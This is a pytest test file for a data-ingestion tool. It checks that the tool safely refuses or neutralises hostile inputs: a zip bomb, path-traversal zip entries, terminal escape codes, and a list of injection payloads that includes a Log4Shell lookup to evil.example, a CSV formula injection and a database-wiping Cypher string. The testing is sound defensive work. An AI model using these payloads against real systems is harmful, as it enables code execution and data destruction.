"""Hostile and broken material: a sentence or counted refusals; the rest is read."""

from __future__ import annotations

import io
import json
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from graph.server.connection import Connection
from ingest.zips import MAX_RATIO
from tests.app.commands.running import Spoor
from tests.app.commands.test_ingest import counted, known
from tests.builders import post, table_of, write_csv, write_xlsx

STEERING = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
ROWS = [post(n) for n in range(3)]
HEADER = "platform,account_id,text\n"


def as_zip(files: dict[str, bytes], *, packed: bool = True) -> bytes:
    """A zip of some files."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def bomb() -> bytes:
    """A zip of a table that unpacks to more than a thousand times its size."""
    assert MAX_RATIO < 900
    return as_zip({"bomb.csv": HEADER.encode() + b"\0" * (40 << 20)})


def lying_zip() -> bytes:
    """A zip that says that its file is small."""
    content = bytearray(as_zip({"t.csv": HEADER.encode() + b"x,1,a\n" * 9000}, packed=False))
    for magic, offset in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        at = content.index(magic) + offset
        content[at : at + 4] = (100).to_bytes(4, "little")
    return bytes(content)


UNREADABLE: dict[str, Callable[[], bytes]] = {
    "empty.csv": lambda: b"",
    "blank.csv": lambda: b" \n\n \t\n",
    "cut.jsonl": lambda: b'{"platform": "x", "account_id": "1", "te',
    "array.json": lambda: b'[{"platform": "x"',
    "binary.csv": lambda: bytes(range(256)) * 40,
    "image.csv": lambda: b"\x89PNG\r\n\x1a\n" + bytes(64),
    "program.csv": lambda: b"\x7fELF\x02\x01\x01" + bytes(512),
    "latin.csv": lambda: (HEADER + "x,1,Vögel\n").encode("latin-1"),
    "columns.csv": lambda: b"name,number\nbird,3\n",
    "nothing-said.csv": lambda: b"platform,account_id\nx,1\n",
    "twice.csv": lambda: b"platform,account_id,text,text\nx,1,a,b\n",
    "one-word.csv": lambda: b"hello\nthere\n",
    "page.csv": lambda: b"<!DOCTYPE html><table><tr><td>platform</td></tr></table>",
    "wide.csv": lambda: (",".join(f"c{n}" for n in range(3000)) + "\n").encode(),
    "quote.csv": lambda: b'"platform,account_id,text\nx,1,a\n' * 3,
    "cut.xlsx": lambda: b"PK\x03\x04" + bytes(200),
    "word.xlsx": lambda: as_zip({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}),
    "escape.csv": lambda: b"\x1b[2J\x1b]0;owned\x07name,\x1b[31mtext\nx,y\n",
    "lying.zip": lying_zip,
    "cut.zip": lambda: as_zip({"a.csv": HEADER.encode() + os.urandom(5000)})[:-60],
    "bomb.zip": bomb,
}


@pytest.fixture(scope="module")
def contents() -> dict[str, bytes]:
    return {name: make() for name, make in UNREADABLE.items()}


def test_what_cannot_be_read_is_named_and_the_rest_is_read(
    spoor: Spoor, database: Connection, material: Path, contents: dict[str, bytes]
) -> None:
    for name, content in contents.items():
        (material / name).write_bytes(content)
    write_csv(material / "a-good.csv", ROWS)
    write_xlsx(material / "z-good.xlsx", {"A": table_of([post(7)])})
    done = spoor("ingest", material, material / "absent.csv", "--json", code=1)
    assert done.err == ""
    errors = {Path(s["path"].split("!")[0]).name: s["error"] for s in done.data["sources"]
              if "error" in s}  # fmt: skip
    assert set(errors) == {*contents, "absent.csv"}
    for name, error in errors.items():
        assert name in error
        assert error.endswith(".")
        assert "\n" not in error
    read = {Path(s["path"]).name: s["posts"] for s in done.data["sources"] if "error" not in s}
    assert read == {"a-good.csv": 3, "z-good.xlsx": 1}
    assert done.data["totals"]["failed"] == len(errors)
    graph = counted(database)
    assert (graph["Source"], graph["Post"]) == (2, 4)
    assert known(spoor)["posts"] == 4
    assert not list((spoor.workspace / "evidence" / "drafts").glob("*"))
    person = spoor("ingest", material, code=1)
    assert len(person.err.splitlines()) == len(contents)
    assert not STEERING.search(person.out + person.err)


@pytest.mark.parametrize("name", UNREADABLE)
def test_one_file_that_cannot_be_read_is_one_sentence(
    offline: Spoor, material: Path, contents: dict[str, bytes], name: str
) -> None:
    path = material / name
    path.write_bytes(contents[name])
    for more in ([], ["--dry-run"]):
        sentence = offline("ingest", path, *more, code=1).sentence()
        assert sentence.startswith(str(path))
        assert not STEERING.search(sentence)
    assert offline("log", "--json").data == []


def test_a_zip_whose_paths_lead_out_writes_nothing_outside(
    spoor: Spoor, material: Path, tmp_path: Path
) -> None:
    table = write_csv(material / "t.csv", ROWS).read_bytes()
    names = ["../../out.csv", "/tmp/spoor-out.csv", "..\\out.csv", "a/../../out.csv", "C:\\out.csv"]
    (material / "z.zip").write_bytes(as_zip(dict.fromkeys(names, table) | {"fine.csv": table}))
    (material / "t.csv").unlink()
    before = set(tmp_path.rglob("*out.csv"))
    done = spoor("ingest", material / "z.zip", "--json", code=1)
    refused = [source for source in done.data["sources"] if "error" in source]
    assert len(refused) == len(names)
    assert all("leads out of the zip" in source["error"] for source in refused)
    assert [s["posts"] for s in done.data["sources"] if "error" not in s] == [3]
    assert set(tmp_path.rglob("*out.csv")) == before
    assert not Path("/tmp/spoor-out.csv").exists()


def test_special_files_and_links_are_refused(offline: Spoor, material: Path) -> None:
    os.mkfifo(material / "fifo.csv")
    (material / "loop").symlink_to(material)
    (material / "gone.csv").symlink_to(material / "nowhere.csv")
    done = offline("ingest", material, "/dev/zero", code=1)
    assert len(done.err.splitlines()) == 4
    assert done.out == ""


def test_a_line_of_200_megabytes_is_one_refused_row(
    spoor: Spoor, database: Connection, material: Path
) -> None:
    path = material / "long.csv"
    with path.open("wb") as file:
        file.write(HEADER.encode() + b"x,1,before\n" + b"x,2,")
        for _ in range(200):
            file.write(b"a" * 1_000_000)
        file.write(b"\nx,3,after\n")
    (source,) = spoor("ingest", path, "--json").data["sources"]
    assert (source["rows_read"], source["rows_rejected"], source["posts"]) == (3, 1, 2)
    (row,) = spoor("rejected", "--json").data
    assert (row["locator"], row["reason"]) == ("row 3", "the line is longer than 4,000,000 "
                                                        "characters")  # fmt: skip
    assert counted(database)["Post"] == 2


ODD = (
    "=cmd|'/C calc'!A0", "@SUM(1+1)", "<script>alert(1)</script>", "</td><td onload=x>",
    "[link](http://evil.example)", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m",
    "\u202egnp.exe", "\u2066hidden\u2069", "a\u2028b", "\x08\x08\x08", "line\nbreak\ttab",
    "${jndi:ldap://evil.example}", "'; MATCH (n) DETACH DELETE n //", "{{7*7}}", "%s%n", "\u200b",
    "Ａ\u0301\u0302", "🦜👨\u200d👩\u200d👧", "নাম", "ชื่อ", "اسم", "x" * 400, "\ufeffmark", "\ufffd",
)  # fmt: skip


def test_odd_names_go_through_every_command_and_steer_nothing(
    spoor: Spoor, database: Connection, material: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [
        post(n, account_id=f"{odd} {n}", account_name=odd, account_handle=odd, group_name=odd,
             group_id=f"g {odd}", text=f"{odd} bird for sale, call (202) 555-01{n // 3:02d}")
        for n, odd in enumerate(ODD)
    ]  # fmt: skip
    (source,) = spoor("ingest", write_csv(material / "t.csv", rows), "--region", "US",
                      "--json").data["sources"]  # fmt: skip
    assert (source["rows_rejected"], source["posts"]) == (0, len(ODD))
    assert counted(database)["Account"] == len(ODD)
    spoor("detect")
    monkeypatch.setenv("COLUMNS", "80")
    listed = spoor("clusters", "--json").data
    assert sum(cluster["size"] for cluster in listed) > len(ODD) / 2
    keys = [member["account_key"] for cluster in listed for member in cluster["members"]]
    asked = [["clusters"], ["hubs"], ["log"], ["rejected"], ["search", "bird"]]
    asked += [["cluster", cluster["id"]] for cluster in listed[::2]]
    asked += [["account", key] for key in keys[::3]] + [["search", odd] for odd in ODD[::3]]
    for arguments in asked:
        done = spoor(*arguments)
        assert not STEERING.search(done.out + done.err), arguments
    for key in keys[:5]:
        again = spoor("account", key, "--json")
        assert not STEERING.search(again.out)
        assert again.data["key"] == key
    spoor("export", "--all", "--output", material / "out")
    assert counted(database)["Account"] == len(ODD)


def test_rows_that_are_refused_show_what_they_held_without_steering(
    spoor: Spoor, material: Path
) -> None:
    rows = [post(n, posted_at=f"when {odd}") for n, odd in enumerate(ODD)]
    write_csv(material / "t\x1b[31m.csv", [*rows, post(99)])
    done = spoor("ingest", material)
    assert not STEERING.search(done.out + done.err)
    for more in ([], ["--json"]):
        done = spoor("rejected", *more)
        assert not STEERING.search(done.out)
    assert len(done.data) == len(ODD)
    assert json.loads(done.out)[0]["reason"].endswith("cannot be read as a time")
